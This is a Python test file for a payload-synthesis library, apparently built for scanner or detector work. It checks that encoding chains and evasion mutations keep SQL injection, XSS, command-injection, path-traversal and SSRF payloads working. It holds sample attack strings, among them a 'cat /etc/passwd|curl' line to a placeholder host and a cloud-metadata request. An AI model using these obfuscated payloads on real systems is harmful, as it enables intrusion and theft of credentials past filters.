import base64
import html
import random
import re
from collections.abc import Callable
from urllib.parse import unquote_to_bytes

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dragoman.prepare.decode import canonical
from dragoman.synth import encode_chain, generate, mutate
from dragoman.synth.mutate import MAX_CHAIN, MAX_ENCODED, TRICKS


def unescape(form: str) -> Callable[[bytes], bytes]:
    def undo(data: bytes) -> bytes:
        units = re.sub(form, lambda m: chr(int(m[1], 16)), data.decode())
        return units.encode("utf-16-le", "surrogatepass").decode("utf-16-le").encode()

    return undo


UNDO: dict[str, Callable[[bytes], bytes]] = {
    "percent": unquote_to_bytes,
    "percent-u": unescape(r"%u([0-9a-f]{4})"),
    "entity": lambda data: html.unescape(data.decode()).encode(),
    "escape": unescape(r"\\u([0-9a-fA-F]{4})"),
    "base64": base64.b64decode,
}


def undo(data: bytes, chain: tuple[str, ...]) -> bytes:
    for name in reversed(chain):
        data = UNDO[name](data)
    return data


@given(st.binary(min_size=1, max_size=300), st.integers())
def test_encode_chain_is_reversible_on_any_bytes(payload: bytes, seed: int) -> None:
    data, chain = encode_chain(payload, random.Random(seed))
    assert 1 <= len(chain) <= MAX_CHAIN
    assert data.isascii()
    assert undo(data, chain) == payload


@given(st.text(min_size=1, max_size=200), st.integers())
def test_encode_chain_is_reversible_on_text(text: str, seed: int) -> None:
    payload = text.encode("utf-8", "replace")
    assert undo(*encode_chain(payload, random.Random(seed))) == payload


def test_encode_chain_uses_every_encoding() -> None:
    rng = random.Random(1)
    chains = [encode_chain(s.payload, rng)[1] for s in generate("sql-injection", 300, 1)]
    assert {name for chain in chains for name in chain} == set(UNDO)
    assert {len(chain) for chain in chains} == {1, 2, 3}


def test_encode_chain_is_bounded() -> None:
    for seed in range(50):
        data, chain = encode_chain(b"'" * 5000, random.Random(seed))
        assert len(data) <= MAX_ENCODED or len(chain) == 1


def test_the_scanner_decodes_what_the_chain_encoded() -> None:
    rng = random.Random(2)
    for sample in generate("cross-site-scripting", 200, 2, templates=["script-inline-plain"]):
        data, chain = encode_chain(sample.payload, rng)
        if "base64" not in chain:  # a bare + reads as a space, one that was encoded stays
            read, plain = (canonical(d)[0].replace(b"+", b" ") for d in (data, sample.payload))
            assert read == plain


@pytest.mark.parametrize("slug", sorted(TRICKS))
def test_mutate_is_deterministic_and_changes_something(slug: str) -> None:
    samples = list(generate(slug, 300, 4))
    once = [mutate(s.payload, slug, random.Random(i)) for i, s in enumerate(samples)]
    assert once == [mutate(s.payload, slug, random.Random(i)) for i, s in enumerate(samples)]
    assert sum(a != s.payload for a, s in zip(once, samples, strict=True)) > 30


@given(st.binary(max_size=400), st.sampled_from(sorted(TRICKS)), st.integers())
def test_mutate_never_fails(payload: bytes, slug: str, seed: int) -> None:
    mutate(payload, slug, random.Random(seed))


def test_a_class_without_tricks_is_left_alone() -> None:
    assert mutate(b"q=a+b", "benign", random.Random(1)) == b"q=a+b"


def canonical_sql(payload: bytes) -> str:
    text = re.sub(r"/\*!(?:\d{5})?(\w+)\*/", r"\1", payload.decode("latin-1"))
    text = re.sub(r"/\*.*?\*/|(?:--|#)[^\n]*\n", " ", text)
    text = re.sub(r"&&", " and ", text).replace("||", " or ")
    equal = r"(\d+)(?:\s*(?:=|<=>)\s*\1|\s+r?like\s+\1|\s+in\s*\(\1\)|\s+between \1 and \1)(?!\d)"
    text = re.sub(equal + r"|\d+<\d+", " 1=1 ", text, flags=re.I)
    text = re.sub(r"\s*('\w*'|')\s*", r" \1 ", text)
    return re.sub(r"\s+", " ", text).lower()


def test_sql_strings_keep_their_text() -> None:
    seen = set()
    for seed in range(300):
        text = mutate(b"1 and a='root' and 1", "sql-injection", random.Random(seed)).decode()
        text = re.sub(r"0x([0-9a-f]+)", lambda m: f"'{bytes.fromhex(m[1]).decode()}'", text)
        seen.add(text)
        assert re.sub(r"'(?: |\+|\|\|)'", "", text).count("'root'") == 1
    assert len(seen) > 30


def test_sql_tricks_keep_the_statement() -> None:
    payload = b"7' or 12=12 union select a,b from t where c like 'x'-- "
    seen = set()
    for seed in range(200):
        changed = mutate(payload, "sql-injection", random.Random(seed))
        assert canonical_sql(changed) == canonical_sql(payload)
        seen.add(changed)
    assert len(seen) > 50


def test_versioned_comments_stay_in_mysql() -> None:
    for seed in range(100):
        assert b"/*!" not in mutate(b"1;select pg_sleep(5)--", "sql-injection", random.Random(seed))


def test_script_tricks_keep_the_markup() -> None:
    payload = b'"><img src=x onerror=alert(1)><a href=javascript:alert(1)>'
    for seed in range(200):
        text = mutate(payload, "cross-site-scripting", random.Random(seed)).decode()
        text = re.sub(r"\\u00([0-9a-f]{2})", lambda m: chr(int(m[1], 16)), text)
        text = re.sub(r"\s*=\s*", "=", text)
        text = re.sub(r"(<img|<a)[\s/]+", r"\1 ", text, flags=re.I)
        script = re.search(r"href=(.*?):alert", text, re.S)
        assert script
        scheme = re.sub(r"\s", "", html.unescape(script[1]))
        text = text.replace(script[1], scheme)
        assert text.lower() == payload.decode()


def test_shell_tricks_keep_the_words() -> None:
    payload = b"x;cat /etc/passwd|curl http://a.example.com/"
    for seed in range(200):
        text = mutate(payload, "command-injection", random.Random(seed)).decode()
        text = re.sub(r"\$'((?:\\[0-7]{3}|\\x[0-9a-f]{2})+)'", ansi_c, text)
        text = re.sub(r"\$\{IFS(?::0:1|%\?\?)?\}|\$IFS(?:\$9)?|\t", " ", text)
        text = text.replace("${HOME:0:1}", "/")
        text = re.sub(r"['\"](\w)['\"]", r"\1", text)
        text = re.sub(r"''|\"\"|``|\$\(\)|\$\{x\}|\\|\$[@9*]", "", text)
        for _ in range(2):
            text = re.sub(r"\{(\w+),([^}]*)\}", r"\1 \2", text)
            text = re.sub(r"\$\((?:echo|printf) (\w+)\)|`echo (\w+)`", r"\1\2", text)
        path = r"/etc/[pas?*wd\[\]]{6,8}"
        assert re.fullmatch(rf"x(?:\s|;|\||&)+cat {path}\|curl http://a\.example\.com/", text), text


def ansi_c(match: re.Match[str]) -> str:
    return match[1].encode().decode("unicode_escape")


def test_windows_commands_get_carets_not_shell_variables() -> None:
    texts = [
        mutate(b"&ping -n 5 %COMPUTERNAME%", "command-injection", random.Random(s))
        for s in range(60)
    ]
    assert all(b"IFS" not in t and b"$@" not in t for t in texts)
    assert any(b"^" in t for t in texts)


def test_path_tricks_reach_the_same_file() -> None:
    for seed in range(200):
        changed = mutate(b"../../../../etc/passwd", "path-traversal", random.Random(seed))
        text = unquote_to_bytes(unquote_to_bytes(changed)).decode()
        parts = [p for p in re.sub(r"/x/\.\.", "/", text).split("/") if p not in ("", ".", "..")]
        assert parts == ["etc", "passwd"]
        assert text.count("..") >= 4


def test_address_tricks_keep_the_service() -> None:
    for seed in range(100):
        changed = mutate(
            b"http://169.254.169.254/latest/meta-data/",
            "server-side-request-forgery",
            random.Random(seed),
        )
        assert changed.lower().startswith(b"http://")
        assert changed.endswith(b"/latest/meta-data/")
